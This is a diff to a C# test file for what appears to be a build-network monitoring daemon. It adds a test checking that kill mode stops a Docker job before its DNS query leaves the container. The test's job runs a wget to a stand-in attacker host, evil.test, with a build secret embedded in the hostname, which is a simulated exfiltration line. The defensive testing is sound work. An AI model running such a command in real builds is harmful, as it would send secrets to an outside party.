@@ -77,6 +77,27 @@ public sealed class DockerTests(NetworkLabFixture lab, DockerLabFixture docker) 
     }
 
     [Fact]
+    public async Task In_kill_mode_a_containers_first_command_querying_an_unknown_name_is_killed_before_the_query_leaves()
+    {
+        // The query comes from the container's first program, before a forwarder could be listening in its new
+        // namespace: that program waits, stopped, until one does.
+        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(20));
+        await using var daemon = await DaemonProcess.StartAsync(Setup("kill"));
+        var label = $"{BuildJob.Secret.ToLowerInvariant()}{Random.Shared.Next(100_000, 999_999)}";
+        var before = Lab.BytesReceivedBy("evil.test");
+        using var job = BuildJob.Start(Lab, $"{Docker.Run} --rm {DockerLab.Image} wget -q -O /dev/null http://{label}.evil.test/first; echo build finished");
+        var result = await job.WaitAsync();
+
+        Assert.True(result.ExitCode == 137,
+            $"exit {result.ExitCode}\n{result.StandardOutput}\n{result.StandardError}\n{string.Join("\n", daemon.AlertRecords())}\n{daemon.Output}");
+        Assert.DoesNotContain("build finished", result.StandardOutput);
+        var alert = await daemon.WaitForAlertAsync(a => Str(a, "job") == job.JobId && Str(a, "action") == "killed");
+        Assert.Contains(Names(alert), n => n.Contains(label, StringComparison.OrdinalIgnoreCase));
+        Assert.Equal(before, Lab.BytesReceivedBy("evil.test"));
+        Assert.DoesNotContain(Lab.DnsQueriesLogged(), q => q.Name.Contains(label, StringComparison.OrdinalIgnoreCase));
+    }
+
+    [Fact]
     public async Task A_docker_exec_into_a_service_container_the_job_started_is_the_jobs_and_the_service_left_running_is_alerted()
     {
         await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(20));
@@ -155,12 +176,11 @@ public sealed class DockerTests(NetworkLabFixture lab, DockerLabFixture docker) 
     [Fact]
     public async Task A_benign_container_job_in_kill_mode_raises_nothing_and_completes()
     {
-        // The container's first request a moment after it starts: in a namespace's first moments the job is not yet
-        // held there, and an answer it got then may be missing from its allowlist once it is (docs/operations.md).
+        // Its first request at once: the container's first program waits for the forwarder in its namespace.
         await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(20));
         await using var daemon = await DaemonProcess.StartAsync(Setup("kill"));
         using var job = BuildJob.Start(Lab,
-            $"{Docker.Run} --rm {DockerLab.Image} sh -c 'sleep 1; for i in 1 2 3; do wget -q -O /dev/null http://registry.test/ok || exit 1; done' && echo build finished");
+            $"{Docker.Run} --rm {DockerLab.Image} sh -c 'for i in 1 2 3; do wget -q -O /dev/null http://registry.test/ok || exit 1; done' && echo build finished");
         await AssertCleanAsync(daemon, job);
     }
 
